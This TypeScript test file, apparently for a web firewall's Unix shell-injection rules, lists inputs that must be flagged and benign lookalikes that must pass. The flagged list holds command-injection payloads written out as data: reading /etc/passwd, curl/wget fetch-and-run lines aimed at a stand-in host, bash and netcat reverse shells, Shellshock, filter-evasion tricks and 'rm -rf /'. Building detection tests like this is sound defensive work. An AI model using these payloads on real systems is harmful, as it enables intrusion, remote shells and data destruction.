// biome-ignore-all lint/suspicious/noTemplateCurlyInString: variables of shells are written that way
// Commands that a shell would run, and the prose, code and headers that only look like them.

import { testRules } from './rule-examples.ts';
import { unixRuleSet } from './unix-rule-set.ts';

const EVERYWHERE = ['QUERYSTRING', 'BODY', 'HEADER'].map((place) => `UNIXShellCommandsVariables_${place}`);
testRules(unixRuleSet, EVERYWHERE, {
  matches: [
    'echo $HOME',
    'echo $PATH',
    'x=;cat%20/etc/passwd',
    'x=|id',
    'x=%26%26whoami',
    'x=;uname -a',
    'x=$(whoami)',
    'x=`whoami`',
    'x=;wget http://x.example/a.sh',
    'x=|curl -s http://x.example/a|sh',
    "x=;c'a't${IFS}/etc/passwd",
    'x=cat$IFS/etc/passwd',
    'x=/bin/sh -c id',
    'x=;bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
    'x=|nc -e /bin/sh 10.0.0.1 4444',
    '() { :;}; /bin/bash -c "id"',
    'x=;sleep 5',
    'x=| ls -la',
    'x=;ping -c 3 10.0.0.1',
    'x=1;python3 -c "import os"',
    'x=$(sleep 5)',
    'x=%0acat /etc/hosts',
    'x=/???/../usr/bin/id',
    'x=${LD_PRELOAD}',
    'x=;rm -rf /',
  ],
  passes: [
    'a=1&id=5&ls=2',
    'a=1&&id=2',
    'q=cats and dogs; more or less',
    'q=find a host; head over here',
    'q=$path and $user',
    'filter={"$match":{"path":"$user"}}',
    '$(document).ready(init)',
    '$("#id").hide()',
    'price=$50; size=10',
    'use `ls -la` to list and `id` to identify',
    'Mozilla/5.0 (Linux; U; Android 4.0.3; id; GT-P3113) AppleWebKit/534.30',
    'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36',
    'session=abc; id=42; env=prod; ls=1',
    'text/html, application/xhtml+xml, application/xml;q=0.9, image/avif',
    'multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW',
    'attachment; filename="cat.png"',
    'curl/8.6.0',
    'Wget/1.21.4 (linux-gnu)',
    'a | b | c',
    'if (x) { y(); } sleep(5);',
    'tel: +1 555; ping me',
    'SGVsbG8gd29ybGQ=',
    'q=HOME and PATH',
    'W/"abc|def"',
    'path=/users/bin/shelf',
  ],
});
testRules(unixRuleSet, ['UNIXShellCommandsVariables_BODY'], {
  matches: ['{"cmd":"a;\\u0063at \\/etc\\/passwd"}', '{"a":"x\\ncat /etc/passwd"}', 'a=x%0Awhoami%0A'],
  passes: ['{"text":"one\\ntwo\\nless is more"}', '{"t":"line\\nfind the host\\n"}', 'a=%24PRICE'],
});
